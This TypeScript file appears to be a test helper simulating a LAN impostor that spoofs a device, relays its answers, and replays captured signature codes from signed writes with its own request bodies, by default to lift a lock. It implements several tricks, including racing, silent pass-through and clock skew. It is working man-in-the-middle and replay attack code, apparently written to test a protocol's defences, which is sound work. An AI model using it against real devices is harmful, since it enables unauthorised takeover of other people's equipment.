import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { isObject, type JsonObject, parseJson } from '../../core/json.ts'
import { readBody } from './asked.ts'
import type { Address } from './server.ts'

/** What the impostor does with a signed write before it answers. */
export type Trick =
  /** Keeps the code, and claims that everything is done. */
  | 'keep'
  /** Uses the code for its own body at the victim, and claims that everything is done. */
  | 'use'
  /** Lets the victim do what was asked, so that nobody sees anything, and uses the same code afterwards. */
  | 'pass-on'
  /** Answers at once, before the victim has heard anything, and uses the code meanwhile. */
  | 'race'
  /** Claims that it was refused, to get more codes. */
  | 'refuse'

export interface ImpostorOptions {
  readonly host: string
  readonly port: number
  /** The device that it pretends to be. */
  readonly victim: { readonly serial: string; readonly host: string; readonly port: number; beacon(): string }
  readonly trick?: Trick
  /** What it does with a code that it has caught. Default: lifts the lock for the LAN. */
  readonly par?: readonly (readonly [number, number, string])[]
  /** Seconds by which the time it reports is ahead of the victim's. */
  readonly ahead?: number
}

const UNLOCK = [[114, 7, '0']] as const
const LONGEST_BODY = 8192
const MOST_TRIES = 50
/** Milliseconds for an answer of the victim. */
const PATIENCE = 2_000

/**
 * An attacker on the LAN who pretends to be a device: repeats its beacons, answers every request with the device's own answer,
 * or its last one while it is away, and uses the codes of incoming signed writes for its own bodies. The code of a write does
 * not cover its body.
 */
export class Impostor {
  trick: Trick
  /** The signed writes that came in, oldest first. */
  readonly caught: JsonObject[] = []
  /** Everything else that came in. */
  readonly asked: unknown[] = []
  readonly #options: ImpostorOptions
  /** The last answers of the victim, by command. */
  readonly #answers = new Map<string, string>()
  #server: Server | undefined
  #port: number

  constructor(options: ImpostorOptions) {
    this.#options = options
    this.#port = options.port
    this.trick = options.trick ?? 'use'
  }

  get host(): string {
    return this.#options.host
  }

  get port(): number {
    return this.#port
  }

  /** The datagram that its victim would broadcast. */
  beacon(): string {
    return this.#options.victim.beacon()
  }

  /** Listens; learns from the victim the answers that it may have to give alone. @throws what `listen` fails with */
  async start(): Promise<Address> {
    for (const cmd of [1, 2, 3, 4]) await this.#learn({ cmd })
    const server = createServer((request, response) => this.#serve(request, response))
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject)
      server.listen(this.#port, this.host, resolve)
    })
    const bound = server.address()
    if (typeof bound === 'object' && bound !== null) this.#port = bound.port
    this.#server = server
    return { host: this.host, port: this.#port }
  }

  async stop(): Promise<void> {
    const server = this.#server
    this.#server = undefined
    if (!server) return
    await new Promise<void>((resolve) => {
      server.close(() => resolve())
      server.closeAllConnections()
    })
  }

  /** Uses the code that it caught last; returns what the victim answers, undefined when it does not. */
  useCode(): Promise<string | undefined> {
    const { sn, time, auth } = this.caught.at(-1) ?? {}
    return this.#ask({ sn, time, auth, par: this.#options.par ?? UNLOCK })
  }

  #serve(request: IncomingMessage, response: ServerResponse): void {
    readBody(request, LONGEST_BODY, (text) => {
      void this.#answer(parseJson(text)).then((reply) => {
        response.setHeader('Connection', 'close')
        response.end(reply)
      })
    })
  }

  async #answer(body: unknown): Promise<string> {
    if (!isObject(body) || body.auth === undefined) {
      this.asked.push(body)
      return this.#imitate(body)
    }
    this.caught.push(body)
    switch (this.trick) {
      case 'keep':
        return '{"success":"true"}'
      case 'refuse':
        return '{"success":"block"}'
      case 'race':
        void this.useCode()
        return '{"success":"true"}'
      case 'use':
        await this.useCode()
        return '{"success":"true"}'
      case 'pass-on': {
        const reply = await this.#ask(body)
        await this.useCode()
        return reply ?? '{"success":"true"}'
      }
    }
  }

  /** What the victim says, with the time that suits the impostor. */
  async #imitate(body: unknown): Promise<string> {
    const text = (await this.#ask(body)) ?? (isObject(body) ? this.#answers.get(JSON.stringify(body)) : undefined) ?? ''
    const { ahead = 0 } = this.#options
    const reply = parseJson(text)
    if (ahead === 0 || !isObject(reply) || typeof reply.time !== 'string') return text
    return JSON.stringify({ ...reply, time: String(Number(reply.time) + ahead) })
  }

  /** A device that is busy with somebody else, or away for a moment, is asked again. */
  async #learn(body: JsonObject): Promise<void> {
    for (let tries = 0; tries < MOST_TRIES && !this.#answers.has(JSON.stringify(body)); tries++) await this.#ask(body)
  }

  async #ask(body: unknown): Promise<string | undefined> {
    const { host, port } = this.#options.victim
    try {
      const answer = await fetch(`http://${host}:${port}/api.cgi`, {
        method: 'POST',
        body: JSON.stringify(body),
        headers: { connection: 'close' },
        signal: AbortSignal.timeout(PATIENCE),
      })
      const text = await answer.text()
      if (isObject(body) && body.cmd !== undefined && !text.includes('timeout'))
        this.#answers.set(JSON.stringify(body), text)
      return text
    } catch {
      // The victim is away or too busy: the impostor answers alone.
      return undefined
    }
  }
}
